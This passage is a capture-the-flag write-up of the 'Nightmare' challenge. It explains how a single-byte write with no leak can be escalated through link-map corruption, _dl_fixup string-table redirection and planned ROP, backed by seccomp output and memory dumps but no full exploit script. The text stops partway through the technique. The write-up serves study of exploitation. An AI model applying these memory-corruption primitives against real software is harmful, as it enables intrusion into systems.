Nightmare: One Byte to ROP // Alternate Solution

TLDR: One byte write, no leak.

  1. Infinite loop through overwrite of binaries link map
  2. Determination of useful rop gadget, has to fit several extensive criteria
  3. Partial overwrite of DT_JMPREL table pointer
  4. Partial overwrite of DT_STRTAB pointer
  5. Overwrite of LIBC link map
  6. Loop 2-5 until rop chain has been created
  7. Partial overwrite of DT_FINI_ARRAYSZ pointer
  8. Use 3 & 4 to call exit, to call rop chain


This challenge was extremely difficult and I recommend reading the original author’swriteup to see how intense the intentional method is, Now with that mentioned, I’m going to show you a method that ignores most of the primatives stated in the article and go a complete different approach that even the author thought was impossible.




The images above show the struggle that is about to be encountered and not to harass or cause any trouble.

I won’t go into every approach I took on this challenge as the first 3ish days I took a wrong approach that I think will turn into a nice ctf challenge in the future so look out for a modified nightmare in the future.

Next, to fully get a understanding of this challenge I recommend looking up some ret2dlresolve writeups and learning about the different structures used in looking up a function during lazy loading.

Lastly, I was not able to get a final working solution on remote and I think this has to do with some offset being incorrect, I was able to get a working version on the remote while writing this writeup, just took a bit of time and thinking to figure out what was wrong, it was because the remote had a different offset than localversion, but previously this was because of a bad rop gadget I was using, who would of guessed that puts will call different functions depending on CPU capabilities. Any address that I use in the writeup, I’ll try to keep consistant, but these values are not the same as the remote version so don’t worry about them too much. With this all said, I’ll start with the actual walkthrough!

Lastly 2, sorry for such a long writeup, I wanted to share as much detail but still kept most of the useless information out. So if you want you can probably skip to the sections you are most interested in.

Description and hint 1 & 2

Can you pwn when you can't see?

Hint: Partial RELRO? That sounds like a really complex surface...

Hint 2: What happens if Exit doesnt exit?

nc 31477

Setup and Reversing

Upon downloading the files and extracting from the zip, we are given a file giving the description below.

## Setup

Nightmare is an extremely environment sensitive challenge. It's important your environment is as accurate as possible.
Tools such as patchelf will clobber continuity between local and remote. Please take care making changes.

You might have noticed that no libc was shipped with this challenge. This is intentional. Please do NOT try to exploit
the binary outside of the provided Docker and utilize the libc and ld within the docker.

You aresafe to install tools and other items in the docker. The docker tag is `ubuntu@sha256:cc8f713078bfddfe9ace41e29eb73298f52b2c958ccacd1b376b9378e20906ef`.

### Symbols

You can install debug symbols by installing libc6-dbg package. From there, please do NOT unstrip the global libc and ld.
Make a copy and unstrip them without affecting /usr/lib. An unstripping script is provided.

## Remote

Nightmare's remote requires you to submit a static payload to the program. This payload will then be sent to 8 different instances of Nightmare, all of which have `stdout` hidden from the competitor. This prevents leaking ASLR base and bruteforce. In order to submit a payload, simply:

- Send the size of the payload packed as a 8 byte integer
- Send the payload

##Security Measures

The seccomp used can be found in `bin/filter.s`.

So given this information lets first check the seccomp, I’m privy to using seccomp-tools to determining the seccomp in place

# seccomp-tools dump ./nightmare
 line  CODE  JT   JF      K
 0000: 0x20 0x00 0x00 0x00000004  A = arch
 0001: 0x15 0x00 0x0b 0xc000003e  if (A != ARCH_X86_64) goto 0013
 0002: 0x20 0x00 0x00 0x00000000  A = sys_number
 0003: 0x15 0x08 0x00 0x00000000  if (A == read) goto 0012
 0004: 0x15 0x07 0x00 0x00000001  if (A == write) goto 0012
 0005: 0x15 0x06 0x00 0x00000002  if (A == open) goto 0012
 0006: 0x15 0x05 0x00 0x0000003c  if (A == exit) goto 0012
 0007: 0x15 0x04 0x00 0x000000e7  if (A == exit_group) goto 0012
 0008: 0x15 0x01 0x00 0x00000009  if (A == mmap) goto 0010
 0009: 0x05 0x00 0x00 0x00000003  goto 0013
 0010: 0x20 0x00 0x00 0x00000020  A = prot # mmap(addr, len, prot, flags, fd, pgoff)
 0011: 0x45 0x01 0x00 0x00000004  if (A & 0x4) goto 0013
 0012: 0x06 0x00 0x00 0x7fff0000  return ALLOW
 0013: 0x06 0x00 0x00 0x00000000  return KILL

We can see we are only allowed read, write, open, and mmap as somewhat useful gadgets… except that the the extra restriction on the prot argument of mmap, disallows PROT_EXEC from any chunks we create, so this seems less useful.

Let’s start reversing.


This is a relatively clear main, so we are looking for something else. We can see a function called nightmare and after some digging you can find that this is called in __libc_csu_init being a part of the _init_array list.


So looking at the actual nightmare function we can see a check to the data at chunk, which may seem weird for function that should only run once… hint hint. A malloc of a large size is stored in chunk and a call to the seccomp setup, the seccomp is normal setup and I don’t believe there is anything new being donethat requires a further analysis.


Next we have the actual meat of the function, there are 2 reads, one of 8 bytes and another of 1 byte. The first 8 bytes are used as an offset of the malloced chunk and the 1 byte is written to that location. After this a call to write and then _Exit.


There are 2 things to realize from this analysis so far, first is the malloc. Typically, mallocs of large sizes will need to invoke a new mmap call, this call creates a new page in the memory map scene and usually will be located at the same offset from libc. The memory map below is just an example on my host system and does not use the correct environment but will suffice for the example:

0x00007ffff7dd8000 0x00007ffff7dda000 0x0000000000000000 rw-                                        <-- newly mmapped chunk
0x00007ffff7dda000 0x00007ffff7e00000 0x0000000000000000 r-- /usr/lib/x86_64-linux-gnu/
0x00007ffff7e00000 0x00007ffff7f49000 0x0000000000026000 r-x /usr/lib/x86_64-linux-gnu/
0x00007ffff7f49000 0x00007ffff7f94000 0x000000000016f000 r-- /usr/lib/x86_64-linux-gnu/
0x00007ffff7f94000 0x00007ffff7f95000 0x00000000001ba000 --- /usr/lib/x86_64-linux-gnu/
0x00007ffff7f95000 0x00007ffff7f98000 0x00000000001ba000 r-- /usr/lib/x86_64-linux-gnu/
0x00007ffff7f98000 0x00007ffff7f9b000 0x00000000001bd000 rw- /usr/lib/x86_64-linux-gnu/

The malloc’d chunk in this example is located at 0x00007ffff7dd8010 and will always be atthe same offset from libc, now take note that this will depend on your kernel and libc version, this comes into play later. From this, we also know that the ld is typically at a constant offset from libc as well.

Second, now this doesn’t play as big of a role in this challenge but there is a difference between the function Exit and _Exit. Exit will ultimately call another function called __run_exit_handlers while _Exit will flat out use the system call exit right away without calling any extraneous functions. Not too important for this exploit but does come into play with different exploits.Infinite Loop

With our ability to write one byte we are extremely limited, luckily we can write to anything that is writeable in libc or the ld. So we need to find something good to write to that allows us to get more functionality or more writes. Now at the beginning of this challenge, I didn’t know exactly where to write to so I wrote a quick brute force script to find an address that would cause the program to hang that we could work with, my thought being that this means we found a way to call nightmare again. I’m not going to share the actuallscript but imagine a loop that goes over all writeable addresses by sequence of 8 bytes and testing all 256 bytes for something that works. Luckily I found 2 hits, 33 and 40, both at the same address ld+0x36220 and looking at this address we see this:

0x7ffff7ffe220: 0x0000555555554000  0x00007ffff7ffe7c8
0x7ffff7ffe230: 0x000055555555a000  0x00007ffff7ffe7d0
0x7ffff7ffe240: 0x0000000000000000  0x00007ffff7ffe220
0x7ffff7ffe250: 0x0000000000000000  0x00007ffff7ffe7b0
0x7ffff7ffe260: 0x0000000000000000  0x000055555555a010
0x7ffff7ffe270: 0x000055555555a0f0  0x000055555555a0e0
0x7ffff7ffe280: 0x0000000000000000  0x000055555555a090
0x7ffff7ffe290: 0x000055555555a0a0  0x000055555555a120
0x7ffff7ffe2a0: 0x000055555555a1300x000055555555a140
0x7ffff7ffe2b0: 0x000055555555a0b0  0x000055555555a0c0
0x7ffff7ffe2c0: 0x000055555555a020  0x000055555555a030
0x7ffff7ffe2d0: 0x0000000000000000  0x0000000000000000

Some of the addresses may be hard to recognize right away, but the first pointer is the address where our binary is loaded, now I’m not 100% confident but I believe that this chunk of data isrefered to as the link map of the binary. A crappy description of this structure would be a structure that holds pointers to important information used in the binary, sorry but I couldn’t refind the blog post about it I read during research, but we will notice that this address is also stored before the binary GOT in memory

0x555555558000: 0x0000000000003df8  0x00007ffff7ffe220              <---- Link map
0x555555558010: 0x00007ffff7fe0ee0  0x0000555555555036              <---- _dl_runtime_resolve | exit_plt
0x555555558020 <[email protected]>: 0x0000555555555046  0x00007ffff7eaf900

Now we need to take an in depth look into what happens when we overwrite the first pointer in the link map. As we know during afunction call the instruction flow is actually sent to the plt, then from there a lookup from the GOT, and if this is not found we make a call to _dl_runtime_resolve, this function ultimately sets up a call _dl_fixup with the linkmap and the offset for the function as the arguments, _dl_fixup is responsible for calling other functions that actually lookup of your function by using pointers in the link map, storing this value in the got, then ultimately returning the address to _dl_runtime_resolve where it jmps to the function it looked up.

If you remember our brute force was able to find a write of either 33 or 40 to the link map, what does this mean though. As it turns out, in _dl_fixup the first pointer in the link map is used for a base to write for the got address, the offset being the value specified in the JMPREL table in the binary.


Normally, write would be stored at binary+0x4018, but by placing 40 we now fool _dl_fixup to store the address of write at binary+0x4018+40 or binary+0x4040, which happens to be the got address for _Exit. Instead of _Exit being looked up, we just end up calling write instead, if you remember back to the reversing function there is no ret call after the _Exit, instead whatever function next will be called, this happens to be main then _libc_csu_init, which is the function that calls nightmare for us. This is how our infinite loop works for us, now if you are looking closely you may notice that RDI is set to 0 before the _Exit,(write), call and think that the program is writing to stdin, but write just fails in this instances so we don’t need to worry about anything.


You may remember that both 33 and 40 worked as values, if you look at 33 this is actually a partial overwrite of the _Exit GOT value with the upper byte of the address of the write function in libc, 0x00. Instead of normally pointing to its plt section at of 0x1086 it now points to 0x1000, which happens to be _init_proc and this calls _gmon_start__ which willcall __libc_csu_init for us.


Either should work, but they will effect the stack differently if you plan to implement this yourself and use different rop gadgets later on.

Function Lookup

At this point, we have an infinite write but what do we really target, we also have an infinite lookup for the function write, as we never overwrite it’s GOT address and instead overwrote _exit. If we keep looking through _dl_fixup we will notice that several of the pointers are referenced to determine what function should be found, one of these is link_map+0x68, or the string table lookup pointer. Since we don’t know where we are in memory binary or libc wise, we are stuck with partial offsets, luckily for us, there happens to be a pointer nearby that points to a variable called _r_debug, more importantly a writeable piece of memory.

0x558e56a95e78: 0x0000000000000005  0x0000558e56a92500          <-- string table
0x558e56a95e88: 0x0000000000000006  0x0000558e56a923e0
0x558e56a95e98: 0x000000000000000a  0x00000000000000b6
0x558e56a95ea8: 0x000000000000000b  0x0000000000000018
0x558e56a95eb8: 0x0000000000000015  0x00007f9cb24ca100          <--- _r_debug

If we set a string at _r_debug+0x4b, the original offset into the string table for the write function name, we can now call whatever function we want. At this point I got stuck for a bit as I couldn’t figure out a great primative to do anything with this, as we don’t control the arguments and we only call the beginning of each function, what can we do? If we utilize the same primative we used to overwrite _Exit GOT we can write to the memory after the GOT, but we are limited to 0xfe-ish bytes past the _Exit got.

At this point I was stuck, so I wrote another brute force totry and find something useful… This one was with a modified nightmare binary that allowed me to write 8 bytes at once to an address, this allowed me to quickly searchfor any segfaults that occur that we could maybe use. After some checking I found one at libc+0x228000, in the memory map between the libc and the ld,

0x7f9cb2490000: 0x00007f9cb2268000  0x00007f9cb24caee0
0x7f9cb2490010: 0x00007f9cb247fbc0  0x00007f9cb24c9a48
0x7f9cb2490020: 0x00007f9cb24ca7d0  0x00007f9cb2490000
0x7f9cb2490030: 0x0000000000000000  0x00007f9cb2490490
0x7f9cb2490040: 0x0000000000000000  0x00007f9cb247fbc0
0x7f9cb2490050: 0x00007f9cb247fc70  0x00007f9cb247fc60
0x7f9cb2490060: 0x00007f9cb247fc00  0x00007f9cb247fc20
0x7f9cb2490070: 0x00007f9cb247fc30  0x00007f9cb247fca0
0x7f9cb2490080: 0x00007f9cb247fcb0  0x00007f9cb247fcc0
0x7f9cb2490090: 0x00007f9cb247fc40  0x00007f9cb247fc50
0x7f9cb24900a0: 0x0000000000000000  0x0000000000000000
